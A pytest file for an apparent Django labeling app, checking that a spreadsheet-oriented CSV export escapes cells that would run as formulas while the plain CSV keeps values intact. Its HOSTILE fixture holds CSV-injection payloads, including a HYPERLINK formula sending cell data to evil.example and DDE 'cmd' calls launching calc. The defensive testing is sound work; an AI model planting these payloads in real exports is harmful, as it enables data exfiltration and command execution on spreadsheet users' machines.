"""`?format=spreadsheet-csv`: the CSV for opening in a spreadsheet, where a cell starting with
=, +, -, @, tab or CR would run as a formula (audit finding 9). The plain CSV stays the upload
file (tests/tasks/test_exports_roundtrip.py)."""

from __future__ import annotations

import csv
import io

import pytest

from apps.tasks.exports import FORMULA_STARTS
from apps.tasks.models import Item
from tests.factories import ItemFactory, ProjectFactory
from tests.helpers.exports import round_trip, snapshot

pytestmark = pytest.mark.django_db

HOSTILE = {
    "eq": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "fullwidth": "\uff1d1+1",
}
HARMLESS = {"neg": -0.5, "neg_text": "-0.5", "exp": "-3e-4", "text": "a cat", "quote": "'quoted"}


@pytest.fixture
def hostile_project(requester):
    project = ProjectFactory(owner=requester, labels=["=cat", "dog"])
    ItemFactory(
        project=project,
        external_id="=1+1",
        payload={"text": "t", **HOSTILE, **HARMLESS, "=key": "header cell"},
        prediction="=cat",
        confidence=0.4,
        state=Item.State.CONSENSUS,
        final_label="=cat",
        label_source=Item.Source.CROWD,
        final_confidence=0.9,
        posterior={"=cat": 0.9, "dog": 0.1},
    )
    return project


def export_rows(client, project, fmt: str) -> tuple[list[dict], list[str], str]:
    response = client.get(f"/api/v1/projects/{project.pk}/export?format={fmt}")
    assert response.status_code == 200, response.content[:500]
    text = b"".join(response.streaming_content).decode()
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    return [dict(zip(header, row, strict=True)) for row in reader], header, response


def test_no_cell_of_the_spreadsheet_csv_starts_a_formula(
    hostile_project, requester, api_client_for
):
    rows, header, response = export_rows(
        api_client_for(requester), hostile_project, "spreadsheet-csv"
    )
    cells = header + [cell for row in rows for cell in row.values()]
    assert [c for c in cells if c and c[0] in FORMULA_STARTS and c not in ("-0.5", "-3e-4")] == []
    row = rows[0]
    assert row["eq"] == "'" + HOSTILE["eq"] and row["tab"] == "'\t=1+1"
    assert row["external_id"] == "'=1+1" and row["final_label"] == "'=cat"
    assert "'=key" in header
    assert (row["neg"], row["neg_text"], row["exp"]) == ("-0.5", "-0.5", "-3e-4")  # numbers
    assert (row["text"], row["quote"], row["confidence"]) == ("a cat", "'quoted", "0.4")
    assert response["Content-Type"].startswith("text/csv")
    assert ".spreadsheet.csv" in response["Content-Disposition"]


def test_the_plain_csv_keeps_every_value_and_still_uploads_unchanged(
    hostile_project, requester, api_client_for
):
    client = api_client_for(requester)
    rows, _, _ = export_rows(client, hostile_project, "csv")
    assert rows[0]["eq"] == HOSTILE["eq"] and rows[0]["external_id"] == "=1+1"
    target = round_trip(client, hostile_project, "csv")
    uploaded = snapshot(target)[0]
    assert uploaded["external_id"] == "=1+1" and uploaded["prediction"] == "=cat"
    # Every text value comes back as it was (a bare CR included: rows end in CRLF, so the
    # writer quotes it); numbers come back as text, as CSV has no types.
    assert uploaded["payload"] == {
        **snapshot(hostile_project)[0]["payload"],
        "neg": "-0.5",
    }


def test_the_project_page_links_the_spreadsheet_csv(hostile_project, requester, client):
    client.force_login(requester)
    page = client.get(f"/requester/projects/{hostile_project.pk}/").content.decode()
    assert f"/api/v1/projects/{hostile_project.pk}/export?format=spreadsheet-csv" in page
    assert "CSV for spreadsheets" in page
